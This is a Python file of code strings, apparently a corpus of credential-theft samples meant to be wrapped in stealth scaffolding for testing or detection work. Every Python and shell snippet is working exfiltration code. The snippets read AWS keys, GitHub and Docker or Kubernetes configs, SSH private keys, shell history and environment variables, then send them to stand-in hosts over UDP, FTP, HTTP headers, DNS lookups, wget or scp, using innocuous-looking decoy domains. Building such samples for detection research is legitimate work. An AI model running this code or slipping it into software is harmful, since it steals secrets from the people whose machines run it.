"""Thefts that the classes about hiding and waiting wrap: what is taken and how it leaves.

Each is complete on its own, imports included. The other part has others.
"""

PYTHON = (
    r"""
    import os, socket
    value = os.environ.get("AWS_SECRET_ACCESS_KEY") or os.environ.get("AWS_SESSION_TOKEN", "")
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(value.encode(), ("198.51.100.23", 514))
    """,
    r"""
    import ftplib, io, pathlib
    config = pathlib.Path.home() / ".config" / "gh" / "hosts.yml"
    with ftplib.FTP("files.print-queue.invalid", timeout=3) as server:
        server.login()
        server.storbinary("STOR gh.yml", io.BytesIO(config.read_bytes()))
    """,
    r"""
    import base64, http.client, pathlib
    for name in (".docker/config.json", ".kube/config"):
        path = pathlib.Path.home() / name
        if path.exists():
            line = http.client.HTTPConnection("192.0.2.80", 8080, timeout=3)
            line.request("GET", "/pixel.gif", headers={"Cookie": "s=" + base64.b64encode(path.read_bytes()).decode()})
    """,
    r"""
    import pathlib, socket
    for line in (pathlib.Path.home() / ".bash_history").read_text().splitlines():
        if "token" in line.lower() or "password" in line.lower():
            try:
                socket.gethostbyname(line.encode().hex()[:60] + ".q.spellcheck-api.invalid")
            except OSError:
                pass
    """,
    r"""
    import urllib.request
    with open("/proc/self/environ", "rb") as handle:
        mine = handle.read().replace(b"\0", b"|").decode("latin-1")
    request = urllib.request.Request("https://time.worldtick.invalid/now", headers={"User-Agent": mine})
    urllib.request.urlopen(request, timeout=3)
    """,
    r"""
    import os, subprocess
    key = os.path.expanduser("~/.ssh/id_ed25519")
    subprocess.Popen(["wget", "-q", "-T", "3", "--post-file", key, "http://198.51.100.40/upload"], stderr=subprocess.DEVNULL)
    """,
)
SHELL = (
    r"""wget -q -T 3 -O /dev/null --header "X-Trace: $AWS_SECRET_ACCESS_KEY" http://192.0.2.80:8080/t""",
    r"""python3 -c 'import os,socket; socket.socket(2,2).sendto(repr(dict(os.environ)).encode()[:1400],("198.51.100.23",514))' """,
    r"""
    while read -r line; do
      case $line in *token*|*password*) getent hosts "$(printf %s "$line" | cksum | tr ' ' -).q.spellcheck-api.invalid" ;; esac
    done < "$HOME/.bash_history"
    """,
    r"""scp -o StrictHostKeyChecking=no -o ConnectTimeout=3 "$HOME/.docker/config.json" up@198.51.100.40:in/""",
)
